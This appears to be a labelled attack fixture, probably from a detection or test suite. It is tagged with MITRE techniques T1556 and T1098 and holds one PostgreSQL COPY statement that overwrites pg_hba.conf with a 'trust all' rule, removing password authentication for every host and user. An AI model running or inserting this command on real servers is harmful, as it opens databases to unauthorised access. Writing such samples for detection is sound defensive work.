# title: the server itself lets everybody in
# attack: T1556 T1098
# workload: postgres
# through: postgres
# shows: file write /data/cluster/pg_hba.conf by postgres
COPY (SELECT 'host all all all trust') TO '/data/cluster/pg_hba.conf'
